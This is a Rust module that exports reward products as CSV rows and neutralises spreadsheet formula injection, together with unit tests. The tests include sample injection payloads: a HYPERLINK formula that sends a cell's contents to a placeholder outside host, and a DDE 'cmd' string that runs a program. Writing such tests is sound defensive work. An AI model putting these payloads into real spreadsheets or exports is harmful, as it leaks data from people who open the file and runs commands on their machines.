//! Products as rows of a CSV file that is safe to open in a spreadsheet.

use std::borrow::Cow;
use std::io::Write;

use popup_rewards::{Product, ProductId};
use rust_decimal::Decimal;
use serde::Serialize;

/// A product with one of its denominations.
#[derive(Serialize)]
struct Row<'a> {
    id: ProductId,
    name: Cow<'a, str>,
    category: Cow<'a, str>,
    sub_category: Option<Cow<'a, str>>,
    country_code: Option<Cow<'a, str>>,
    currency_code: Option<Cow<'a, str>>,
    min_value: Option<Decimal>,
    max_value: Option<Decimal>,
    discount_percent: Option<Decimal>,
}

/// One row per denomination. A product without any has one row.
pub(crate) fn write(out: &mut impl Write, products: &[Product], with_header: bool) -> anyhow::Result<()> {
    let mut csv = csv::WriterBuilder::new().has_headers(with_header).from_writer(out);
    for product in products {
        let denominations = &product.available_denominations;
        let none = denominations.is_empty().then_some(None);
        for denomination in denominations.iter().map(Some).chain(none) {
            csv.serialize(Row {
                id: product.id,
                name: cell(&product.name),
                category: cell(&product.category),
                sub_category: product.sub_category.as_deref().map(cell),
                country_code: product.country_code.as_deref().map(cell),
                currency_code: product.currency_code.as_deref().map(cell),
                min_value: denomination.and_then(|found| found.min_value),
                max_value: denomination.and_then(|found| found.max_value),
                discount_percent: denomination.and_then(|found| found.discount),
            })?;
        }
    }
    csv.flush()?;
    Ok(())
}

/// Text that no spreadsheet takes for a formula. Otherwise, whoever names a product could run one on the reader's
/// machine. Numbers are ours, and stay as they are.
fn cell(text: &str) -> Cow<'_, str> {
    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    if is_formula { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use anyhow::Result;

    use super::*;

    /// The cells of one product's row: id, three texts, two codes, two bounds, a discount.
    fn row(name: &str, category: &str, code: &str) -> Result<Vec<String>> {
        let product: Product = serde_json::from_value(serde_json::json!({
            "id": 7, "name": name, "category": category, "sub_category": name, "country_code": code, "currency_code": code,
            "available_denominations": [{ "min_value": "-5.00", "max_value": 10, "discount": -1.5 }],
        }))?;
        let mut csv = Vec::new();
        write(&mut csv, &[product], true)?;
        let mut rows = csv::Reader::from_reader(csv.as_slice()).into_records();
        let row = rows.next().transpose()?.unwrap_or_default();
        Ok(row.iter().map(ToOwned::to_owned).collect())
    }

    #[test]
    fn a_text_that_looks_like_a_formula_is_no_formula_any_more() -> Result<()> {
        for text in [
            r#"=HYPERLINK("https://elsewhere.example/?x="&A1,"Acme")"#,
            "@SUM(A1:A9)",
            "+44 20 7946 0000",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u{ff1d}1+1",
        ] {
            let quoted = format!("'{text}");
            let expected = ["7", &quoted, &quoted, &quoted, &quoted, &quoted, "-5.00", "10", "-1.5"];
            assert_eq!(row(text, text, text)?, expected, "{text:?}");
        }
        Ok(())
    }

    #[test]
    fn other_texts_and_all_numbers_stay_as_they_are() -> Result<()> {
        let texts = ["Acme = Play, \"US\"", "'quoted'", "", "a+b", "1-2", "\u{e9}t\u{e9}"];
        for text in texts {
            let expected = ["7", text, "Games", text, "US", "US", "-5.00", "10", "-1.5"];
            assert_eq!(row(text, "Games", "US")?, expected, "{text:?}");
        }
        Ok(())
    }
}
